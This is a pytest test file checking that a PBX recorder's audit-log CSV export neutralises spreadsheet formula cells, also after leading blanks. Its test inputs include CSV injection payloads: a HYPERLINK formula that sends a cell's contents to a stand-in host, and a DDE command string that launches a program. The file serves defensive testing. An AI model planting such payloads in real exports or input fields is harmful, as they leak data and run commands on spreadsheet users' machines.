"""The audit log's CSV export neutralises every cell a spreadsheet would run as a formula, also
after leading blanks, with the same guard as the calls export."""

from __future__ import annotations

import csv
import io

import pytest

from pbx_recorder.exports.columns import neutralise
from pbx_recorder.service.api_audit import cell

HOSTILE = (' =HYPERLINK("http://x.example/?"&B2,"open")', "   +cmd|' /C calc'!A0", " -2+3", "  @SUM(A1:A9)",
           "\t=1+1", "\r=1+1", " \t=1", "=1+1", "+1", "-1", "@x")


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_cell_gets_an_apostrophe_also_after_blanks(text: str) -> None:
    assert cell(text) == "'" + text == neutralise(text)


@pytest.mark.parametrize("text", ["alice", "a=b", "login.failed", " plain", ""])
def test_plain_text_is_left_alone(text: str) -> None:
    assert cell(text) == text


def test_a_detail_object_is_json_and_guarded_too() -> None:
    assert cell({"a": 1}) == '{"a": 1}' and cell(-5) == "'-5"


def test_the_export_neutralises_a_hostile_login_name(seeded_service) -> None:  # type: ignore[no-untyped-def]
    name = ' =HYPERLINK("http://x.example/?"&B2,"open")'
    anon = seeded_service.client()
    assert anon.post("/api/login", json={"name": name, "password": "x" * 12}).status_code == 401
    admin, _ = seeded_service.login("root-admin")
    text = admin.get("/api/audit/export.csv?action=login.failed").text
    rows = [r for r in csv.DictReader(io.StringIO(text)) if "HYPERLINK" in r["actor"]]
    assert rows and all(r["actor"] == "'" + name and r["target"] == "'" + name for r in rows)
